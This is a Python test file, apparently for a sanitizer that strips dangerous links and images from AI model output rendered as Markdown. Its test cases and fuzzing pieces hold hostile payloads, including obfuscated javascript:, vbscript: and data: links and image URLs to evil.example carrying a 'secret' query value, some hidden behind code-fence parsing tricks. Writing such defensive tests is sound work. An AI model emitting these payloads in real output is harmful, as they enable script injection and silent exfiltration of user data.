"""Model output made safe to show: checked by rendering with a real CommonMark parser
(markdown-it-py) and looking at every link and image it would produce."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from lib.safe_markdown import is_unsafe_url, safe_markdown

MD = MarkdownIt("commonmark").disable("html_block").disable("html_inline")  # HTML is escaped, as in Streamlit


def rendered(text: str) -> tuple[list[str], list[str]]:
    """(link hrefs, image srcs) a Markdown renderer would produce."""
    hrefs, srcs = [], []

    def walk(tokens) -> None:  # type: ignore[no-untyped-def]
        for t in tokens:
            if t.type == "link_open":
                hrefs.append(str(t.attrGet("href")))
            if t.type == "image":
                srcs.append(str(t.attrGet("src")))
            if t.children:
                walk(t.children)

    # validateLink off: see everything the text asks for, not only what markdown-it lets through.
    md = MarkdownIt("commonmark")
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    walk(md.parse(text))
    return hrefs, srcs


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x]( javascript:alert(1) )",
        "[x](<javascript:alert(1)>)",
        "[x](&#106;avascript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![t](https://evil.example/p.png?c=secret)",
        "![t][r]\n\n[r]: https://evil.example/p.png",
        "[![t](https://evil.example/i.png)](https://ok.example)",
        "[a [nested] text](javascript:alert(1))",
        # A fence in a list item ends with the item: what follows is Markdown again.
        "- a\n\n  ```\n  code\n\nfoo ![x](http://evil.example/p.png)",
        "> ```\n> code\nfoo ![x](http://evil.example/p.png)",
        "1. ```\n   code\n\n![x](http://evil.example/p.png)",
        "<pre>\n```\n</pre>\n\n![x](http://evil.example/p.png)",
    ],
)  # fmt: skip
def test_no_unsafe_link_or_image_survives(text: str) -> None:
    hrefs, srcs = rendered(safe_markdown(text))
    assert srcs == []
    assert not any(is_unsafe_url(h) for h in hrefs), hrefs


def test_safe_links_and_code_are_left_as_written() -> None:
    text = "See [docs](https://example.com/a_(b)) and `code`.\n\n```\n![i](http://e/x.png)\n```\n"
    assert safe_markdown(text) == text
    assert rendered(safe_markdown("![t](https://e/p.png)"))[0] == ["https://e/p.png"]  # an image becomes a link


PIECES = st.sampled_from([
    "[x](javascript:alert(1))", "![i](http://e/i.png)", "[ok](https://ok.example)", "`code`", "\n\n", " ",
    "```\n", "[r]: data:text/html,x\n", "[y][r]", "![z][r]", "<vbscript:x>", "text", "[", "]", "(", ")", "!",
    "\\", "*", "&#106;", "javascript:", "`", "``", "````", "~~~\n", "``` a`b\n", "    ", "> ", "- ", "1. ",
    "  ", "a", "\n", "<pre>\n", "</pre>",
])  # fmt: skip


@settings(max_examples=3000, deadline=None)
@given(st.lists(PIECES, max_size=16).map("".join))
def test_any_mix_of_hostile_pieces_renders_no_image_and_no_unsafe_link(text: str) -> None:
    hrefs, srcs = rendered(safe_markdown(text))
    # Images inside code are text, not images; anything else that parses as an image failed us.
    assert srcs == []
    assert not any(is_unsafe_url(h) for h in hrefs), (text, hrefs)
